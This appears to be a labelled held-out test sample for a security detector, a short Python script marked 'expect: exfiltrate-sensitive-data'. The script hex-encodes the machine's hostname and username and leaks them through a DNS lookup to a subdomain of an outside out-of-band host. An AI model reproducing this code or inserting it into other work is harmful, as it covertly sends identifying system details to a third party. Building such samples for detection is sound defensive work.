# ruff: noqa
# fmt: off
"""Held-out: host details leaked through DNS lookups, hex-encoded in labels."""
import platform
import socket

host = platform.node()
user = __import__("getpass").getuser()
label = (host + "-" + user).encode().hex()
socket.getaddrinfo(f"{label}.x.oast.fun", 80)  # expect: exfiltrate-sensitive-data
